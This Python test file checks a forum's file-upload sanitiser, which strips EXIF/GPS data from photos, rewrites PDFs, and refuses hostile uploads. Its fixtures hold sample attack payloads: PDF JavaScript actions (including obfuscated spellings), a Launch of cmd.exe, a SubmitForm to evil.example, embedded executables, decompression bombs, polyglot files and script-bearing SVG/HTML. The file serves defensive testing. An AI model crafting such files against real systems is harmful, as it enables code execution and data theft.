"""Files from strangers: what is kept is harmless, and what is not is refused quickly and cheaply."""

import asyncio
import gzip
import io
import os
import resource
import zipfile
from pathlib import Path

import pypdfium2 as pdfium
import pytest
from PIL import Image

from forum.files import CleanFile, clean
from forum.files.unclean import LARGEST, WORDS
from hub.errors import BadInput
from tests.doubles import papers

SECONDS = 1.0
GROWTH = 50 * 1024


def opened(file: CleanFile) -> Image.Image:
    return Image.open(io.BytesIO(file.data))


class TestPictures:
    """Only pixels go on."""

    @pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
    async def test_a_picture_is_drawn_anew(self, kind: str) -> None:
        file = await clean("Min fod.jpeg", papers.picture(kind))
        assert (file.name, file.kind, file.width, file.height) == ("Min fod.webp", "image/webp", 300, 200)
        image = opened(file)
        assert (image.format, image.size) == ("WEBP", (300, 200))
        left, right = image.convert("RGB").getpixel((20, 100)), image.convert("RGB").getpixel((280, 100))
        assert isinstance(left, tuple)
        assert isinstance(right, tuple)
        assert left[0] > 200 > right[0]
        assert right[2] > 200 > left[2]

    async def test_where_it_was_taken_and_with_what_is_gone(self) -> None:
        photo = papers.photograph()
        assert Image.open(io.BytesIO(photo)).getexif().get_ifd(0x8825)
        file = await clean("foto.jpg", photo)
        assert dict(opened(file).getexif()) == {}
        assert set(opened(file).info) <= {"loop", "background", "timestamp", "duration"}
        for trace in (b"Telefonfabrik", b"EXIF", b"Exif", b"GPS", b"ICCP", b"XMP"):
            assert trace not in file.data

    async def test_it_stands_upright_without_the_mark_that_said_so(self) -> None:
        file = await clean("foto.jpg", papers.photograph(orientation=6))
        assert (file.width, file.height) == (200, 300)
        top = opened(file).convert("RGB").getpixel((100, 20))
        assert isinstance(top, tuple)
        assert top[0] > 200

    async def test_a_large_photograph_becomes_smaller(self) -> None:
        file = await clean("foto.jpg", papers.picture(size=(8000, 6000)))
        assert (file.width, file.height) == (2400, 1800)

    async def test_what_is_appended_to_a_picture_stays_behind(self) -> None:
        for tail in (b"<script>alert(1)</script>", papers.empty_zip(), b"%PDF-1.7 /JavaScript"):
            file = await clean("foto.png", papers.picture("PNG") + tail)
            assert tail[:8] not in file.data

    async def test_transparency_stays(self) -> None:
        out = io.BytesIO()
        Image.new("RGBA", (20, 20), (0, 0, 0, 0)).save(out, "PNG")
        assert opened(await clean("x.png", out.getvalue())).mode == "RGBA"


class TestPapers:
    """A PDF is looked through and written anew."""

    async def test_a_plain_pdf_is_kept(self) -> None:
        file = await clean("Prøvesvar.PDF", papers.pdf(pages=3))
        assert (file.name, file.kind, file.pages) == ("Prøvesvar.pdf", "application/pdf", 3)
        document = pdfium.PdfDocument(file.data)
        assert len(document) == 3
        document.close()

    async def test_links_to_pages_and_to_the_web_are_no_harm(self) -> None:
        link = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://sundhed.dk/)>>>>"
        goto = b"/OpenAction[100 0 R/Fit]"
        assert (await clean("a.pdf", papers.pdf(link, page=b"/Annots[10 0 R]", catalog=goto))).pages == 1

    async def test_nothing_of_an_earlier_version_stays_in_it(self) -> None:
        """What was changed and saved again still holds the old text; written anew it does not."""
        document = papers.pdf(b"(slettet, men stadig i filen)")
        assert b"slettet" not in (await clean("a.pdf", document)).data


ACTIVE = {
    "javascript at opening": papers.pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
    "javascript, spelt otherwise": papers.pdf(catalog=b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
    "javascript by name": papers.pdf(
        b"<</S/JavaScript/JS(1)>>", catalog=b"/Names<</JavaScript<</Names[(a)10 0 R]>>>>"
    ),
    "javascript of a page": papers.pdf(page=b"/AA<</O<</S/JavaScript/JS(1)>>>>"),
    "javascript of a form": papers.pdf(
        b"<</FT/Tx/T(a)/AA<</K<</S/JavaScript/JS(1)>>>>/Subtype/Widget/Rect[0 0 9 9]>>",
        catalog=b"/AcroForm<</Fields[10 0 R]>>",
        page=b"/Annots[10 0 R]",
    ),
    "launch": papers.pdf(
        b"<</Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>", page=b"/Annots[10 0 R]"
    ),
    "submit": papers.pdf(catalog=b"/OpenAction<</S/SubmitForm/F(https://evil.example/)>>"),
    "embedded file": papers.pdf(
        b"<</Type/Filespec/F(a.exe)/EF<</F 11 0 R>>>>",
        b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream",
        catalog=b"/Names<</EmbeddedFiles<</Names[(a.exe)10 0 R]>>>>",
    ),
    "attachment": papers.pdf(
        b"<</Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(a.exe)/EF<</F 11 0 R>>>>>>",
        b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream",
        page=b"/Annots[10 0 R]",
    ),
    "media": papers.pdf(b"<</Subtype/RichMedia/Rect[0 0 9 9]>>", page=b"/Annots[10 0 R]"),
    "xfa": papers.pdf(
        b"<</Length 9>>\nstream\n<xdp:xdp>\nendstream", catalog=b"/AcroForm<</XFA 10 0 R/Fields[]>>"
    ),
    "jump into a file inside": papers.pdf(catalog=b"/OpenAction<</S/GoToE/T<</R/C>>>>"),
}


@pytest.mark.parametrize("data", ACTIVE.values(), ids=ACTIVE)
async def test_a_pdf_that_acts_is_refused(data: bytes) -> None:
    assert await code_of(data) == "pdf_active"


def locked() -> bytes:
    """A PDF that asks for a password: the standard security handler with keys of nobody."""
    tail = b"/Encrypt<</Filter/Standard/V 1/R 2/O(%s)/U(%s)/P -4>>/ID[(a)(a)]>>" % (b"o" * 32, b"u" * 32)
    return papers.pdf().replace(b"/Size 200>>", b"/Size 200" + tail)


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(200 << 20))
    return out.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
IMAGE = (
    b"<</Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent 1/Length 0>>"
)
HOSTILE = {
    "png of 50,000 x 50,000": (papers.png_bomb(), "picture_too_large"),
    "png of a line": (papers.png_bomb(40_000, 500), "picture_too_large"),
    "png with a comment of 500 MB": (papers.png_text_bomb(), "file_unreadable"),
    "gzip": (gzip.compress(bytes(200 << 20)), "file_kind"),
    "zip": (zipped(), "file_kind"),
    "pdf that unpacks to 1 GB": (papers.pdf(packed=papers.zeros(1000)), "file_unreadable"),
    "pdf packed twice": (
        papers.pdf(filters=b"[/FlateDecode/FlateDecode]"),
        "file_unreadable",
    ),
    "pdf of 5,000 pages": (papers.pdf(pages=5000), "pdf_too_many_pages"),
    "pdf page as large as a town": (papers.pdf(box=b"0 0 9999999 9999999"), "file_unreadable"),
    "pdf with a picture of 50,000 x 50,000": (
        papers.pdf(IMAGE % (50_000, 50_000) + b"\nstream\n\nendstream", page=b"/X 10 0 R"),
        "picture_too_large",
    ),
    "pdf that is its own page tree": (
        papers.pdf().replace(b"/Kids[100 0 R]", b"/Kids[2 0 R]  "),
        "file_unreadable",
    ),
    "pdf with a password": (locked(), "pdf_locked"),
    "pdf and zip": (papers.pdf() + papers.empty_zip() + b"\n%%EOF", "file_unreadable"),
    "zip and pdf": (papers.empty_zip() + papers.pdf(), "file_kind"),
    "pdf and a page": (papers.pdf() + b"<script>alert(1)</script>", "file_unreadable"),
    "gif and script": (b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "file_kind"),
    "svg": (SVG, "file_kind"),
    "svg with a byte order mark": (b"\xef\xbb\xbf" + SVG, "file_kind"),
    "html": (b"<!doctype html><script>alert(1)</script>", "file_kind"),
    "program": (b"MZ" + bytes(500), "file_kind"),
    "jpeg head on html": (b"\xff\xd8\xff\xe0<html><script>alert(1)</script>", "file_unreadable"),
    "png head on pdf": (b"\x89PNG\r\n\x1a\n" + papers.pdf(), "file_unreadable"),
    "pdf head on png": (b"%PDF-1.7\n" + papers.picture("PNG"), "file_unreadable"),
    "riff that is a sound": (b"RIFF\x00\x00\x00\x00WAVEfmt ", "file_kind"),
    "half a jpeg": (papers.picture()[:900], "file_unreadable"),
    "half a pdf": (papers.pdf()[:200], "file_unreadable"),
    "png that lies about its size": (
        papers.picture("PNG").replace(
            b"\x00\x00\x01\x2c\x00\x00\x00\xc8", b"\x00\x00\x0f\xff\x00\x00\x0f\xff"
        ),
        "file_unreadable",
    ),
    "nothing": (b"", "file_empty"),
    "too much": (b"%PDF-" + bytes(LARGEST), "file_too_large"),
}


async def code_of(data: bytes) -> str:
    with pytest.raises(BadInput) as caught:
        await clean("Billede af min fod.jpg", data)
    assert caught.value.field == "file"
    assert caught.value.say("da") == WORDS[caught.value.code][0]
    return caught.value.code


@pytest.fixture(scope="module")
def usual() -> tuple[int, int]:
    """Peak memory (KB) of a child that opened a tiny file of each kind, and of this process."""
    for tiny in (papers.picture(), papers.pdf()):
        asyncio.run(clean("x", tiny))
    return peaks()


def peaks() -> tuple[int, int]:
    kinds = (resource.RUSAGE_CHILDREN, resource.RUSAGE_SELF)
    return tuple(resource.getrusage(kind).ru_maxrss for kind in kinds)  # type: ignore[return-value]


def worked() -> float:
    """CPU seconds of this process and its children: a busy machine makes no difference."""
    used = [resource.getrusage(kind) for kind in (resource.RUSAGE_CHILDREN, resource.RUSAGE_SELF)]
    return sum(each.ru_utime + each.ru_stime for each in used)


@pytest.mark.parametrize(("data", "code"), HOSTILE.values(), ids=HOSTILE)
async def test_what_is_no_picture_or_paper_is_refused_quickly_and_cheaply(
    data: bytes, code: str, usual: tuple[int, int]
) -> None:
    began = worked()
    assert await code_of(data) == code
    assert worked() - began < SECONDS
    assert max(now - before for now, before in zip(peaks(), usual, strict=True)) < GROWTH


async def test_a_child_that_takes_too_long_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("forum.files.cleaning.SECONDS", 0.01)
    assert await code_of(papers.pdf()) == "file_unreadable"


async def test_the_child_knows_no_secret_of_the_hub(monkeypatch: pytest.MonkeyPatch) -> None:
    from forum.files import cleaning

    monkeypatch.setenv("HUB_VAULT__KEY", "secret")
    assert set(cleaning._environment()) <= {"PATH", "PYTHONPATH", "VIRTUAL_ENV"}


async def test_many_at_once_are_all_answered() -> None:
    files = await asyncio.gather(*(clean(f"{n}.png", papers.picture("PNG")) for n in range(5)))
    assert [file.name for file in files] == [f"{n}.webp" for n in range(5)]


async def test_nothing_is_written_anywhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    await clean("x.png", papers.picture("PNG"))
    assert os.listdir(tmp_path) == []
